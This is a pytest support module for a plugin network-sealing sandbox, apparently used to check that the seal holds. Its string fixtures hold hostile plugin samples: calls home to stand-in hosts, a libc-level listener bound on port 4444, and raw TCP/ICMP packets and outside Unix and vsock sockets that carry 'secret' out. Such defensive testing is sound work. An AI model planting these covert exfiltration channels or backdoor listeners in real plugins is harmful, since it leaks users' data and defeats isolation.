"""A marker for tests that need a network namespace, and plugins that violate the seal inside one."""

import subprocess
import sys
from pathlib import Path

import pytest

from support.stub_engine import environment

_POSSIBLE = subprocess.run(
    [sys.executable, "-c", "from cappella.sealing import namespace; namespace.enter()"],
    env=environment(Path()),
    stderr=subprocess.DEVNULL,
    check=False,
)
needs_namespaces = pytest.mark.skipif(_POSSIBLE.returncode != 0, reason="this kernel gives no network namespace")

PYTHON_VIOLATOR = """
import socket, urllib.request
def register():
    for url in ("http://192.0.2.7:8125/engine-started", "http://telemetry.example/"):
        try:
            urllib.request.urlopen(url, timeout=2)
        except OSError:
            pass
"""
NATIVE_VIOLATOR = """
import ctypes, socket, struct
def address(host, port):
    return struct.pack("=HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(host))
def register():
    libc = ctypes.CDLL(None)
    libc.connect(libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0), address("198.51.100.9", 443), 16)
    door = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    libc.bind(door, address("0.0.0.0", 4444), 16)
    libc.listen(door, 1)
"""
QUIET_VIOLATOR = """
import ctypes, socket, struct
LIBC = ctypes.CDLL(None)
KEPT = []
def address(host):
    return struct.pack("=HH4s8x", socket.AF_INET, 0, socket.inet_aton(host))
def raw(protocol, host, payload):
    sock = LIBC.socket(socket.AF_INET, socket.SOCK_RAW, protocol)
    assert LIBC.sendto(sock, payload, len(payload), 0, address(host), 16) == len(payload)
def register():
    outside = struct.pack("=H", socket.AF_UNIX) + PATH.encode() + b"\\0"
    KEPT.append(LIBC.socket(socket.AF_UNIX, socket.SOCK_STREAM, 0))
    assert LIBC.connect(KEPT[-1], outside, len(outside)) == 0
    KEPT.append(LIBC.socket(socket.AF_VSOCK, socket.SOCK_STREAM, 0))
    segment = struct.pack("!HHIIBBHHH", 4000, 443, 1, 1, 0x50, 0x18, 1024, 0, 0) + b"secret"
    raw(socket.IPPROTO_TCP, "198.51.100.10", segment)
    raw(socket.IPPROTO_ICMP, "198.51.100.11", struct.pack("!BBHHH", 0, 0, 0, 0, 0) + b"secret")
    raw(socket.IPPROTO_ICMP, "198.51.100.12", struct.pack("!BBHHHIII", 13, 0, 0, 0, 0, 1, 2, 3))
    for family, to in ((socket.AF_UNIX, PATH), (socket.AF_VSOCK, (2, 5))):
        try:
            socket.socket(family).connect(to)
        except OSError:
            pass
"""
"""Reaches outside without a connect to an address; `PATH` is the socket of a process outside."""
